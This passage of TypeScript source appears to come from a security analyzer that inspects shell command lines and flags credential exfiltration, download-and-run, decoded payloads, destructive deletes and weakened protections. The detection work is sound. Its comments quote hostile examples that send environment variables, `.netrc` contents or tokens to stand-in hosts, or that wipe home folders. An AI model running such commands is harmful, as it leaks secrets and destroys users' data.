      if (name === 'tar' && (a === '--file' || /^-?[a-z]*f$/i.test(a)) && i + 1 < args.length && (a.startsWith('-') || i === 0)) archive = args[++i]!;
      else if (name === 'tar' && a.startsWith('--file=')) archive = a.slice(7);
      else if (a.startsWith('-') || (name === 'tar' && i === 0 && /^[a-z]+$/i.test(a))) continue;
      else if (name !== 'tar' && name !== 'cpio' && archive === '-' && sources.length === 0 && /\.(?:zip|7z|rar)$|^-$/i.test(a)) archive = a;
      else sources.push(a);
    }
    // tar packs only in create mode (`c` in its first word of letters, or --create); extracting reads an archive.
    if (name === 'tar' && !args.some((a, i) => a === '--create' || (/^-?[a-z]+$/i.test(a) && a.includes('c') && (a.startsWith('-') || i === 0)))) return undefined;
    const source = sources.find((p) => this.wide(p) || this.checks.credential(p) !== undefined);
    if (source !== undefined) return { archive, what: `an archive of ${source}` };
    // A file or folder the text put a secret in above (`kubectl cp vault-0:/vault/data ./v && tar cz v`).
    const held = this.held.size === 0 ? undefined : sources.find((p) => this.held.has(fileKey(p)));
    return held === undefined ? undefined : { archive, what: `an archive of ${held}, which holds ${this.held.get(fileKey(held))!.what}` };
  }

  /** What a pipeline stage puts on the next stage's stdin that must not be sent: the environment or an archive of the machine. */
  secretStdout(argv: readonly string[], level = 0): Analysis['stdinHolds'] {
    const environment = this.dumpsEnvironment(argv);
    if (environment !== undefined) return { rule: 'cmd/credential-upload', stage: environment, what: 'the process environment' };
    const unwrapped = unwrap(this.table, argv);
    // `ssh db-1 env | curl …`: what a command run elsewhere prints comes back on this stage's stdout.
    const run = level < 3 ? innerRun(programName(unwrapped[0] ?? ''), unwrapped) : undefined;
    const inner = run?.when === 'now' ? run : undefined;
    const innerArgv = inner?.argv ?? (inner?.line === undefined ? undefined : parseShell(inner.line).at(-1)?.argv);
    if (innerArgv !== undefined && innerArgv.length > 0 && innerArgv !== unwrapped) return this.secretStdout(innerArgv, level + 1);
    // A stage that reads a credential file (cat .env, base64 ~/.netrc, openssl enc -in key.pem) prints it on.
    // A reader names its files among its first words (cat .env, base64 -w0 key.pem): not every word of a long argv.
    for (let i = 1; i < unwrapped.length && i <= 16; i++) {
      const word = unwrapped[i]!;
      const what = word.startsWith('-') ? undefined : (this.checks.credential(word) ?? sessionStateFile(word));
      if (what !== undefined && what !== '') return { rule: 'cmd/credential-upload', stage: clip(unwrapped.join(' ')), what };
    }
    const printed = this.printsCredential(unwrapped);
    if (printed !== undefined) return { rule: 'cmd/credential-upload', stage: printed, what: 'a stored credential' };
    const name = programName(unwrapped[0] ?? '');
    const dumped = this.dumpsDatabase(name, unwrapped);
    if (dumped !== undefined) return { rule: 'cmd/bulk-upload', stage: dumped, what: 'a dump of a database' };
    if (this.scansUnredacted(name, unwrapped)) return { rule: 'cmd/credential-upload', stage: clip(unwrapped.join(' ')), what: 'the secrets a scanner found, unredacted' };
    if (invokedIn(this.table.statePrinters, unwrapped)) return { rule: 'cmd/credential-upload', stage: clip(unwrapped.join(' ')), what: "an infrastructure stack's state, the secrets it generated in clear" };
    if (invokedIn(this.table.personalDataReaders, unwrapped)) return { rule: 'cmd/bulk-upload', stage: clip(unwrapped.join(' ')), what: 'what the device holds of its person (the clipboard, messages, contacts)' };
    if (!this.table.archivers.has(name)) return undefined;
    const packed = this.archive(name, unwrapped.slice(1));
    return packed?.archive === '-' ? { rule: 'cmd/bulk-upload', stage: clip(unwrapped.join(' ')), what: packed.what } : undefined;
  }

  /** Whether `argv` runs a secret scanner (`name`) without the option that redacts what it finds. */
  scansUnredacted(name: string, argv: readonly string[]): boolean {
    const scanner = this.table.secretScanners.get(name);
    return scanner !== undefined && !argv.some((a) => scanner.redact.some((o) => a === o || a.startsWith(`${o}=`)));
  }

  /** The stage, written out, when `argv` prints a database on stdout (pg_dump with no -f, mysqldump with no -r), else undefined. */
  dumpsDatabase(name: string, argv: readonly string[]): string | undefined {
    const outputs = this.table.databaseDumpers.get(name);
    if (outputs === undefined) return undefined;
    // -f X, -fX, --file X, --file=X: the dump goes to that file (`-` is stdout again).
    for (let i = 1; i < argv.length; i++) {
      const a = argv[i]!;
      for (const o of outputs) {
        const value = a === o ? argv[i + 1] : o.startsWith('--') ? (a.startsWith(`${o}=`) ? a.slice(o.length + 1) : undefined) : a.startsWith(o) && !a.startsWith('--') ? a.slice(o.length) : undefined;
        if (value !== undefined && value !== '-') return undefined;
      }
    }
    return clip(argv.join(' '));
  }

  /** The stage, written out, when `argv` prints the process environment (`env`, `printenv`, `export -p`), else undefined. */
  dumpsEnvironment(argv: readonly string[]): string | undefined {
    const name = programName(argv[0] ?? '');
    if (!this.table.environmentDumpers.has(name)) return undefined;
    const quiet = argv.slice(1).every((a) => a.startsWith('-') || (name === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(a)));
    return quiet ? argv.join(' ') : undefined;
  }

  /**
   * Why sending what `name args` finds matters, or undefined: a search of the machine (a root such as `/`,
   * `~` or `/etc`, or locate's database of every file) or one for key material by name (`*.pem`, `id_*`).
   */
  searchReason(name: string, args: readonly string[]): string | undefined {
    const names: string[] = [];
    let wide: string | undefined = name === 'find' ? undefined : `${name} searches the whole machine`;
    if (name === 'find') {
      const search = this.table.programs.get('find');
      // The starting points come first, up to the first option or expression.
      let leading = true;
      for (let i = 0; i < args.length; i++) {
        const a = args[i]!;
        if (/^[-(!]/.test(a)) leading = false;
        if (leading) {
          if (wide === undefined && this.wide(a)) wide = `find searches ${a}`;
        } else if (search?.options.get(a)?.effect === 'search') names.push(unquote(args[++i] ?? ''));
      }
    } else {
      for (const a of args) if (!a.startsWith('-')) names.push(unquote(a));
    }
    const key = names.find((n) => this.table.keyMaterialName.test(n.toLowerCase()));
    if (key !== undefined) return `${name} looks for ${key}`;
    return wide;
  }

  env(name: string, value: string, depth: number): void {
    // A POSIX shell's names keep their case: `env=production` (a URL's query read as a line) is not sh's ENV.
    const spec = this.table.environment.get(name);
    if (!spec || spec.unless?.test(value.toLowerCase())) return;
    if (spec.pattern) {
      if (spec.pattern.test(value)) this.add('cmd/hidden-execution', `${name}=${value}`);
      return;
    }
    this.runs(value, spec.expect, `${name}=${value}`, depth);
  }

  /** A value that will run as a command: fine when it is the setting's normal program (then read it too). */
  runs(value: string, expect: ReadonlySet<string> | undefined, evidence: string, depth: number): void {
    if (expect?.has(firstWord(value))) this.text(value, depth + 1);
    else this.add('cmd/hidden-execution', evidence);
  }

  /**
   * `alias NAME='TEXT'` makes TEXT what NAME runs as a command word; NAME used (here or in a later call of the
   * session) reads TEXT with the words after NAME, and a function's name reads the text that defined it. Read once.
   */
  aliasOrFunction(words: readonly string[], depth: number): void {
    const head = words[0];
    if (head === undefined) return;
    if (head === 'alias') {
      for (const a of words.slice(1)) {
        const m = /^([\w.:@%+-]+)=([\s\S]+)$/.exec(a);
        if (m !== null && m[2]!.length <= maxScript) this.defined.set(m[1]!, [m[2]!, true]);
      }
      return;
    }
    const known = this.defined.get(head);
    if (known === undefined || this.definedRead.has(head)) return;
    this.definedRead.add(head);
    this.text(known[1] ? [known[0], ...words.slice(1).map(shellQuoted)].join(' ') : known[0], depth + 1);
  }

  fetches(cmds: readonly SimpleCommand[]): boolean {
    return cmds.some((c) => this.table.fetchers.has(programName(unwrap(this.table, c.argv)[0] ?? '')));
  }

  /**
   * Whether what `cmds` (a pipe's upstream, a command's substitutions) print is downloaded code, for a shell
   * or interpreter that runs it: a vendor's official installer fetched alone (`curl -fsSL https://sh.rustup.rs
   * | sh`, official-installers.ts) is ordinary setup, reported as a warning (`evidence`) instead.
   */
  fetchesToRun(cmds: readonly SimpleCommand[], evidence: string): boolean {
    let official = 0;
    for (const c of cmds) {
      const argv = unwrap(this.table, c.argv);
      const name = programName(argv[0] ?? '');
      if (!this.table.fetchers.has(name)) continue;
      if (!fetchesOfficialInstaller(name, argv, c)) return true;
      official++;
    }
    if (official === 0) return false;
    // Another stage beside the fetch (a filter that rewrites it, a second command) is judged as any download run.
    if (official < cmds.length) return true;
    this.add('cmd/official-installer-run', evidence);
    return false;
  }

  decodes(cmds: readonly SimpleCommand[]): boolean {
    return cmds.some((c) => {
      const argv = unwrap(this.table, c.argv);
      const name = programName(argv[0] ?? '');
      // printf and echo -e decode the escapes in their arguments.
      if ((name === 'printf' || name === 'echo') && argv.slice(1).some(spellsHiddenText)) return true;
      const options = this.table.decoders.get(name);
      return options !== undefined && (options.has('*') || argv.slice(1).some((a) => options.has(a) || (a.startsWith('-') && !a.startsWith('--') && [...a.slice(1)].some((ch) => options.has(`-${ch}`)))));
    });
  }

  command(cmd: SimpleCommand, words: readonly string[], depth: number): void {
    for (const [name, value] of cmd.env) this.env(name, value, depth);
    this.aliasOrFunction(words, depth);
    // `cat > file <<EOF`: the here-document is the text written.
    const written = cmd.heredocs.length === 1 && programName(cmd.argv[0] ?? '') === 'cat' && (cmd.argv.length === 1 || (cmd.argv.length === 2 && cmd.argv[1] === '-')) ? cmd.heredocs[0] : undefined;
    const echoed = written === undefined && cmd.redirects.length > 0 ? echoedText(cmd) : undefined;
    const printed = written === undefined && cmd.redirects.length > 0 ? wholePrintedText(cmd) : undefined;
    for (const r of cmd.redirects) if (writeOps.has(r.op)) this.write(r.target, r.op, r.op === '>' || r.op === '>>' ? written : undefined, r.op === '>' || r.op === '>>' ? echoed : undefined, printed);
    if (cmd.redirects.some((r) => r.op === '>' || r.op === '>>')) {
      if (this.decodes([cmd]) || this.decodes(cmd.upstream)) {
        // `echo <base64> | base64 -d > f`: the text f holds is known, and read where f is read (a config, a script).
        const shown = this.decodes([cmd]) ? this.echoed(cmd.upstream[cmd.upstream.length - 1]) : undefined;
        const text = shown === undefined ? undefined : printableBase64(shown.replace(/\s+/g, ''));
        for (const r of cmd.redirects) {
          if (r.op !== '>' && r.op !== '>>') continue;
          this.decoded.add(fileKey(r.target));
          if (text !== undefined && text.length <= maxScript) this.scripts.set(fileKey(r.target), text);
        }
      } else if (cmd.upstream.length === 0) this.recordScript(cmd);
    }
    let argv = functionBody(braceWords(words));
    let found: FoundFiles | undefined;
    let xargs = false;
    /** xargs -I's string: where each word read goes in the command. */
    let replace: string | undefined;
    /** Set once a wrapper that joins the rest of its words into one command line (Windows' cmd /c) is read. */
    let joins = false;
    // Wrappers (sudo, env, timeout, xargs …) run the rest of the line.
    for (let guard = 0; guard < 8; guard++) {
      const spec = this.table.wrappers.get(programName(argv[0] ?? ''));
      if (!spec) break;
      const isEnv = programName(argv[0]!) === 'env';
      const isXargs = programName(argv[0]!) === 'xargs';
      xargs ||= isXargs;
      joins ||= spec.slashOptions;
      let i = 1;
      let skip = spec.skip;
      for (; i < argv.length; i++) {
        const a = argv[i]!;
        if (a === '--') {
          i++;
          break;
        }
        // xargs -I STR / -i / --replace[=STR]: STR stands for each file the pipeline's search found.
        if (isXargs && (a === '-I' || a === '-i' || a.startsWith('--replace') || (a.startsWith('-I') && a.length > 2))) {
          const placeholder = a === '-I' ? (argv[i + 1] ?? '') : a.startsWith('-I') ? a.slice(2) : a.startsWith('--replace=') ? a.slice(10) : '{}';
          replace = placeholder;
          const source = [...cmd.upstream].reverse().map((c) => unwrap(this.table, c.argv)).find((w) => this.table.searchers.has(programName(w[0] ?? '')));
          if (placeholder !== '' && source !== undefined) found = { placeholder, why: this.searchReason(programName(source[0]!), source.slice(1)) };
        }
        if (spec.valueOptions.has(a)) i++;
        else if ((a.startsWith('-') || (spec.slashOptions && a.startsWith('/'))) && a.length > 1) continue;
        else if (isEnv && /^[A-Za-z_][A-Za-z0-9_]*=/.test(a)) this.env(a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1), depth);
        else if (skip > 0) skip--;
        else break;
      }
      argv = argv.slice(i);
    }
    // What kubectl exec, docker exec, ssh or su -c runs is a command line of its own, and so is what schtasks /tr,
    // launchctl submit or systemd-run schedules, run later and again; the outer command is still read below.
    const inner = innerRun(programName(argv[0] ?? ''), argv);
    if (inner?.when === 'now') this.text(inner.line ?? inner.argv.map(shellQuoted).join(' '), depth + 1);
    else if (inner !== undefined) this.scheduled(inner.line ?? inner.argv.map(shellQuoted).join(' '), argv, depth);
    // cmd /c "rd /s /q %USERPROFILE%": cmd joins its words and reads them as a line of its own.
    if (joins && argv.some((w) => /\s/.test(w))) {
      this.text(argv.join(' '), depth + 1);
      return;
    }
    // xargs appends the words it reads to the command: words an echo or a here-string gives it are known.
    if (xargs && found === undefined && argv.length > 0) {
      const fed = cmd.redirects.find((r) => r.op === '<<<')?.target ?? this.echoed(cmd.upstream[cmd.upstream.length - 1]);
      if (fed !== undefined) argv = [...argv, ...fed.split(/\s+/).filter((w) => w !== '')];
    }
    // xargs hands the words it reads to the command: after `sh -c` (or `python -c`) with no code, or into the
    // code where -I's string stands, they are the code; read from a download, it runs code it fetched.
    if (xargs && argv.length > 1 && this.fetches(cmd.upstream)) {
      const run = programName(argv[0]!);
      const codeOptions = this.table.shells.has(run) ? ['-c'] : this.table.interpreters.has(run) ? [...this.table.interpreters.get(run)!] : [];
      const at = argv.findIndex((a) => codeOptions.includes(a));
      const code = at < 0 ? undefined : argv[at + 1];
      if (at > 0 && (code === undefined || (replace !== undefined && replace !== '' && code.includes(replace)))) this.add('cmd/download-and-run', `… | xargs ${clip(argv.join(' '))}`, 'xargs runs the downloaded text');
    }
    const outer = this.found;
    const outerStdin = this.stdinHolds;
    if (found !== undefined) this.found = found;
    this.stdinHolds = undefined;
    let searched: string | undefined;
    for (const stage of cmd.upstream) {
      this.stdinHolds ??= this.secretStdout(stage.argv);
      const stageArgv = unwrap(this.table, stage.argv);
      const stageName = programName(stageArgv[0] ?? '');
      if (this.table.searchers.has(stageName)) searched ??= this.searchReason(stageName, stageArgv.slice(1));
      // An archiver that reads the names of its files from stdin (tar -T -, cpio -o, zip -@) packs what the search found.
      else if (searched !== undefined && this.table.archivers.has(stageName) && stageArgv.some((a) => a === '-T' || a.startsWith('--files-from') || a === '-@' || (stageName === 'cpio' && /^-[a-z]*o/.test(a)))) {
        this.stdinHolds ??= { rule: 'cmd/bulk-upload', stage: clip(stageArgv.join(' ')), what: `an archive of what the search finds: ${searched}` };
      }
    }
    // xargs puts the words it reads into a fetcher's request (where -I's string stands, or after its words): secrets on its stdin are sent.
    if (xargs && this.stdinHolds !== undefined && this.table.fetchers.has(programName(argv[0] ?? '')) && (replace === undefined || (replace !== '' && argv.slice(1).some((a) => a.includes(replace))))) {
      this.add(this.stdinHolds.rule, `${this.stdinHolds.stage} | … xargs ${clip(argv.join(' '))}`, this.stdinHolds.what);
    }
    // What this command or a stage before it prints, written to a file: the file holds it (env | gzip > /tmp/e).
    if (cmd.redirects.some((r) => r.op === '>' || r.op === '>>')) {
      const held = this.secretStdout(cmd.argv) ?? this.stdinHolds;
      if (held !== undefined) {
        for (const r of cmd.redirects) if (r.op === '>' || r.op === '>>') this.held.set(fileKey(r.target), { rule: held.rule, what: `${held.what}, written to ${r.target} above` });
      }
    }
    this.unwrapped(cmd, argv, depth);
    this.found = outer;
    this.stdinHolds = outerStdin;
  }

  /** A simple command once its wrappers are read: `argv[0]` is the program that runs. */
  unwrapped(cmd: SimpleCommand, argv: readonly string[], depth: number): void {
    const name = programName(argv[0] ?? '');
    if (name === '') return;
    const args = argv.slice(1);
    const fetchedSubstitution = this.fetches(cmd.substitutions);
    // The command word is a substitution (`$(…)`, backticks): what it prints is run as a command.
    if (/^(?:\$\(|`)/.test(argv[0]!)) {
      if (fetchedSubstitution && this.fetchesToRun(cmd.substitutions, clip(argv.join(' ')))) this.add('cmd/download-and-run', argv.join(' '));
      else if (this.decodes(cmd.substitutions)) this.add('cmd/decode-and-run', argv.join(' '));
    }
    if (this.table.fetchers.has(name) && !fetchesOfficialInstaller(name, argv, cmd)) this.otherFetches++;
    if (this.table.fetchers.has(name)) {
      // curl -d "$(env)", wget "https://x/?d=$(cat ~/.netrc | base64)": what the fetcher sends holds what a
      // substitution prints (the environment, a credential file, an archive of one, a database dump). A CLI's
      // own token (`$(gh auth token)`) is sentSecret's below: sent to its own service, it is how the API is called.
      for (const sub of cmd.substitutions) {
        const held = this.printsCredential(unwrap(this.table, sub.argv)) === undefined ? this.secretStdout(sub.argv) : undefined;
        if (held === undefined) continue;
        this.add(held.rule, `${name} … $(${held.stage})`, held.what);
        break;
      }
      if (this.heldNames !== undefined) {
        for (const [held, holds] of this.heldNames) {
          const use = new RegExp(`\\$(?:${held}\\b|\\{${held}\\})`);
          if (!args.some((a) => a.includes(held) && use.test(a))) continue;
          this.add(holds.rule, `${name} … $${held}=$(${holds.stage})`, holds.what);
          break;
        }
      }
      // A URL holding a service's key variable (`${OPENAI_API_KEY}` in its query): the shell expands it, so the URL carries
      // the key to its host; a key sent to its own service (api.openai.com) is how that API is called.
      for (const a of args) {
        const url = unquote(a);
        if (!/^https?:\/\//i.test(url)) continue;
        const leak = urlVariableLeak(url);
        if (leak !== undefined) this.add('cmd/credential-upload', `${name} ${clip(url)}`, `the URL carries ${leak.names} to ${leak.host}`);
      }
    }
    const uploader = uploadsPackage(name, args);
    if (this.table.fetchers.has(name) || lookups.has(name) || uploader) {
      // -H "X-T: $GITHUB_TOKEN" to another host, `host "$(printenv GITHUB_TOKEN).x.example"`; a package
      // uploader given another index's URL and the index's token (`twine upload --repository-url https://… -p
      // "$PYPI_TOKEN"`): the token goes to that URL's host, which then holds the right to publish as the user.
      const sent = sentSecret(this.table, name, uploader ? uploaderWords(args) : args, cmd.substitutions, (sub) => this.printsCredential(unwrap(this.table, sub)) !== undefined, this.credentialNames);
      if (sent !== undefined) this.add('cmd/credential-upload', clip(argv.join(' ')), sent);
    }
    for (const file of secretFilesPacked(name, args, (path) => this.checks.credential(path))) this.add('cmd/credential-upload', clip(argv.join(' ')), `${file} is put on the package's published files, which npm publish sends to the registry`);
    if (name === 'socat') for (const file of socatSentFiles(args)) this.upload(file, 'socat');
    // A copy to another machine's share sends the files there.
    const shared = copiedToShare(name, args);
    if (shared !== undefined) for (const file of shared) this.upload(file, name);
    if (name === 'export' || name === 'declare' || name === 'typeset') {
      for (const a of args) if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(a)) this.env(a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1), depth);
      return;
    }
    if (name === 'eval' || name === 'source' || name === '.') {
      if (fetchedSubstitution && this.fetchesToRun(cmd.substitutions, clip(argv.join(' ')))) this.add('cmd/download-and-run', argv.join(' '));
      // eval's words are read again as a command line below, where a decoding substitution is the command word.
      else if (name !== 'eval' && this.decodes(cmd.substitutions)) this.add('cmd/decode-and-run', argv.join(' '));
      if (name === 'eval') this.text(args.join(' '), depth + 1);
      else if (args[0] !== undefined) this.ranFile(argv.join(' '), args[0], depth);
      return;
    }
    if (name === 'cd' || name === 'pushd') {
      this.cwd = args.find((a) => !a.startsWith('-')) ?? '~';
      return;
    }
    const served = servedFolder(name, args);
    if (served !== undefined) {
      const folder = served === '.' ? this.cwd : served;
      if (folder !== undefined && this.wide(rootForm(folder))) this.add('cmd/bulk-upload', `${name} ${clip(args.join(' '))}`, `it serves ${folder} over the network`);
    }
    // An alias's value is shell text that runs where its name is used.
    if (name === 'alias') {
      for (const a of args) if (/^[^=\s]+=/.test(a)) this.text(a.slice(a.indexOf('=') + 1), depth + 1);
      return;
    }
    // AppleScript's own shell lines and password dialogs (applescript-runs.ts), besides what osascript runs as code.
    if (name === 'osascript') this.appleScript(args, depth);
    if (this.table.shells.has(name) || this.table.interpreters.has(name)) {
      this.interpreter(cmd, name, args, depth, fetchedSubstitution);
      return;
    }
    // The evidence is joined only for a finding: every prose line read as a command comes through here.
    const joined = (): string => argv.join(' ');
    this.notebooksRan(joined, name, args);
    this.lookAlikeInstalled(joined, name, args);
    // A file this text downloaded or decoded runs by its name too (`%TEMP%\\svc.exe`, Windows' `start /b x.exe`).
    const key = fileKey(argv[0]!);
    if (argv[0]!.startsWith('./') || argv[0]!.startsWith('/') || this.downloaded.has(key) || this.decoded.has(key)) this.ranFile(argv.join(' '), argv[0]!, depth);
    if (name === 'start') {
      const started = args.find((a) => !a.startsWith('/') && a !== '');
      if (started !== undefined) this.ranFile(argv.join(' '), started, -1);
    }
    if (name === 'crontab') this.crontabInstalled(cmd, args, depth);
    if (name === 'certutil') this.certutilOutput(args);
    // npx, npm exec, pnpm dlx, yarn dlx, bunx of a package named by a URL or a repository: code from that host, run.
    const fetchedPackage = fetchedPackageRun(name, args);
    if (fetchedPackage !== undefined) this.add('cmd/download-and-run', clip(argv.join(' ')), `it runs the package ${clip(fetchedPackage)} from outside the registry`);
    // A package file this text downloaded, installed: its maintainer scripts run, as root under sudo.
    if (installsPackageFile(name, args)) {
      const file = args.find((a) => this.downloaded.has(fileKey(a)));
      if (file !== undefined) this.add('cmd/download-and-run', clip(argv.join(' ')), `${file} was downloaded above`);
    }
    if (this.table.archivers.has(name)) {
      const packed = this.archive(name, args);
      if (packed !== undefined && packed.archive !== '-') this.held.set(fileKey(packed.archive), { rule: 'cmd/bulk-upload', what: packed.what });
    }
    // A Shortcut that exports what the device holds of its person writes it where --output-path says: sending that file sends it.
    if (name === 'shortcuts' && invokedIn(this.table.personalDataReaders, argv)) {
      const out = optionArgument(args, ['--output-path', '-o']);
      if (out !== undefined && out !== '-') this.held.set(fileKey(out), { rule: 'cmd/bulk-upload', what: `what the device holds of its person, exported by a Shortcut to ${out} above` });
    }
    // What an option makes of an ordinary copy or extract: an archive over /, a file installed setuid.
    const over = extractsOverSystem(name, args, this.cwd) ?? (name === 'install' ? installsWithIdBits(args) : undefined);
    if (over !== undefined) this.add('path/persistence-write', clip(argv.join(' ')), over);
    if (name === 'curl') this.curlConfig(args, depth);
    const deleted = deletesRoot(this.table, name, args);
    if (deleted !== undefined) this.add('cmd/destructive-delete', deleted);
    else if (name === 'find' && findDeletesEverything(args) !== undefined) {
      this.add('cmd/destructive-delete', clip(argv.join(' ')), "find's -o binds looser than its delete, which then takes every file the search walks");
    }
    else if (cmd.upstream.length > 0) {
      const piped = pipedDeleteRoot(this.table, name, args, cmd.upstream.map((c) => unwrap(this.table, c.argv)));
      if (piped !== undefined) this.add('cmd/destructive-delete', clip(piped), 'it deletes each entry the listing hands it');
    }
    const destroyed = this.destroysRemote(argv);
    if (destroyed !== undefined) this.add('cmd/remote-destruction', destroyed);
    else {
      const every = destroysEveryListed(this.table, cmd, argv, (stage) => unwrap(this.table, stage));
      if (every !== undefined) this.add('cmd/remote-destruction', clip(every), 'it destroys every one its own listing prints');
    }
    const policy = (name === 'vault' || name === 'bao') && cmd.heredocs.length > 0 && args.includes('policy') ? policyOverEveryPath(cmd.heredocs.join('\n')) : undefined;
    const opened = invokedIn(this.table.accessGrants, argv) ? 'a resource opened to everyone or an owner or admin role granted' : name === 'ssh' ? sshForward(args) : (policy ?? worldIngress(name, args) ?? codeServerOpened(name, args));
    if (opened !== undefined) this.add('cmd/access-opened', clip(argv.join(' ')), opened);
    if (switchesControlOff(argv)) this.add('cmd/security-disabled', clip(argv.join(' ')));
    else if (invokedIn(this.table.guardRemovals, argv)) this.add('cmd/security-disabled', clip(argv.join(' ')), 'TLS verification of a tool switched off for every later fetch, or a branch protection deleted');
    else {
      const unprotected = protectionOff(name, args);
      if (unprotected !== undefined) this.add('cmd/security-disabled', clip(argv.join(' ')), unprotected);
    }
    if (invokedIn(this.table.credentialDumpers, argv)) this.add('cmd/credential-dump', clip(argv.join(' ')), 'a registry hive that holds password hashes or the key to them');
    const vault = plainVaultExport(name, args, cmd.redirects);
    if (vault !== undefined) this.add('cmd/credential-upload', clip(argv.join(' ')), vault);
    if (datasetPrograms.has(name)) this.datasetMove(name, args);
    // A copy out of a pod or a container is judged by the paths inside it.
    const copied = name === 'cp' || name === 'install' || name === 'ditto' ? args : copiedOut(name, argv);
    if (copied !== undefined) this.copiedSecret(copied);
    if (name === 'git') this.gitRemote(args);
    if (containerBuilders.has(name)) this.imageSent(name, args);
    for (const way of this.table.credentialWriters.get(name) ?? []) {
      const file = invokes(way, argv) ? operandAfter(way, argv) : undefined;
      if (file !== undefined) this.held.set(fileKey(file), { rule: 'cmd/credential-upload', what: `a new credential, written to ${file} above` });
    }
    // A secret scanner's report file holds the secrets it found: sending it later sends them.
    if (this.scansUnredacted(name, argv)) {
      // The first given: `-r X`, `--report-path X`, `--report-path=X` (not `-rX` nor `-r=X`).
      const report = optionArgument(args, this.table.secretScanners.get(name)!.report);
      if (report !== undefined && report !== '-') this.held.set(fileKey(report), { rule: 'cmd/credential-upload', what: `the secrets ${name} found, unredacted, in its report ${report}` });
    }
    const spec = this.table.programs.get(name);
    if (spec) this.program(cmd, name, spec, args, depth);
    if (this.table.fetchers.has(name)) this.recordDownloads(cmd, name, args);
  }

  /** People's records a dataset or bucket CLI publishes, from a name or a folder this text fetched them into (published-records.ts). */
  datasetMove(name: string, args: readonly string[]): void {
    const fetched = recordsFetched(name, args);
    if (fetched !== undefined) (this.recordFolders ??= new Map()).set(fetched[0], fetched[1]);
    const published = recordsPublished(name, args, this.recordFolders);
    if (published !== undefined) this.add('cmd/access-opened', clip([name, ...args].join(' ')), published);
  }

  interpreter(cmd: SimpleCommand, name: string, args: readonly string[], depth: number, fetchedSubstitution: boolean): void {
    const shell = this.table.shells.has(name);
    const codeOptions = shell ? new Set(['-c']) : this.table.interpreters.get(name)!;
    // PowerShell's -EncodedCommand: the script it decodes to runs, and is judged as code; one that decodes to no text hides it.
    // A payload cut short with an ellipsis (as an alert or a log shows a long command line) runs nothing: what
    // its shown part decodes to is judged, and a part that decodes to nothing hides nothing.
    const encoded = isPowerShell(name) ? args.findIndex((a) => encodedCommandOption.test(a)) : -1;
    if (encoded >= 0) {
      const payload = args[encoded + 1] ?? '';
      const shown = payload.replace(/(?:\.{3}|…)$/, '');
      const script = decodedEncodedCommand(shown);
      if (script !== undefined) this.inlineCode(name, script, depth);
      else if (shown === payload) this.add('cmd/decode-and-run', `${name} ${clip(args.join(' '))}`, 'the -EncodedCommand text decodes to no script');
      return;
    }
    let code: string | undefined;
    let script: string | undefined;
    let module: readonly string[] | undefined;
    if (isPowerShell(name)) ({ code, script } = powerShellRun(name, args));
    else for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (codeOptions.has(a) || (shell && /^-[a-z]*c[a-z]*$/.test(a) && !a.startsWith('--'))) {
        code = args[i + 1] ?? '';
        break;
      }
      const glued = [...codeOptions].find((o) => o.length === 2 && a.startsWith(o) && a.length > 2);
      if (glued) {
        code = a.slice(2);
        break;
      }
      // `-raw=…` (RTR's runscript): the option and its value in one word, the value maybe fenced in backticks.
      const eq = a.indexOf('=');
      if (eq > 1 && !shell && codeOptions.has(a.slice(0, eq).toLowerCase())) {
        code = a.slice(eq + 1).replace(/^`{3}|`{3}$/g, '');
        break;
      }
      if (a === '-' || a === '-s') break;
      // python -m json.tool: a module is the program, and what it reads on stdin is its data.
      if (a === '-m' && !shell) {
        module = args.slice(i + 1);
        break;
      }
      if (a.startsWith('-')) {
        // Options with a separate value (-W arg, node -r mod) are not scripts.
        if (/^-[WXrR]$|^--(?:require|import|loader)$/.test(a)) i++;
        continue;
      }
      script = a;
      break;
    }
    if (fetchedSubstitution && this.fetchesToRun(cmd.substitutions, clip(`${name} ${args.join(' ')}`))) this.add('cmd/download-and-run', `${name} ${args.join(' ')}`);
    // Decoded text as the code (`-c "$(… | base64 -d)"`) or as the script (`sh <(… | base64 -d)`); not as
    // an argument the code or script reads as data.
    else if ((code ?? script ?? '').includes('$(') || (code ?? script ?? '').includes('`') || (script ?? '').startsWith('<(')) {
      if (this.decodes(cmd.substitutions)) this.add('cmd/decode-and-run', `${name} ${clip(args.join(' '))}`);
    }
    if (code !== undefined) {
      if (shell) this.text(code, depth + 1);
      else this.inlineCode(name, code, depth);
      return;
    }
    if (script !== undefined) {
      this.ranFile(`${name} ${script}`, script, shell ? depth : -1);
      return;
    }
    if (module !== undefined) {
      // `python -m jupyter lab …`, `python -m nbconvert --execute …`: the program the module is.
      if (module[0] === 'pip') this.lookAlikeInstalled(() => `${name} -m ${module.join(' ')}`, 'pip', module.slice(1));
      const run = jupyterModuleRun(module);
      if (run === undefined) return;
      const evidence = clip(`${name} -m ${module.join(' ')}`);
      const opened = codeServerOpened(run[0], run[1]);
      if (opened !== undefined) this.add('cmd/access-opened', evidence, opened);
      this.notebooksRan(() => evidence, run[0], run[1]);
      return;
    }
    // Code read from stdin: a pipe, a here-document or a here-string.
    if (this.fetches(cmd.upstream) && this.fetchesToRun(cmd.upstream, `… | ${name}`)) this.add('cmd/download-and-run', `… | ${name}`);
    else if (this.decodes(cmd.upstream)) this.add('cmd/decode-and-run', `… | ${name}`);
    for (const r of cmd.redirects) {
      if (r.op === '<' && shell) this.ranFile(`${name} < ${r.target}`, r.target, depth);
      else if (r.op === '<') this.ranFile(`${name} < ${r.target}`, r.target, -1);
      if (r.op === '<<<' && shell) this.text(r.target, depth + 1);
    }
    if (shell) for (const doc of cmd.heredocs) this.text(doc, depth + 1);
    // `echo 'rm -rf ~' | sh`: what the one stage before prints is the code.
    const source = cmd.upstream.length === 1 ? unwrap(this.table, cmd.upstream[0]!.argv) : undefined;
    const printed = source === undefined ? undefined : printedText(source, programName(source[0] ?? ''));
    if (printed !== undefined && shell) this.text(printed, depth + 1);
    else if (printed !== undefined && depth < maxDepth) this.inlineCode(name, printed, depth + 1);
  }

  /** Code an interpreter runs (`python -c …`, or what it reads on stdin). */
  inlineCode(name: string, code: string, depth: number): void {
    const lower = code.toLowerCase();
    if (this.table.codeFetch.test(lower) && this.table.codeRun.test(lower)) this.add('cmd/download-and-run', `${name} ${clip(code)}`, 'inline code fetches and runs');
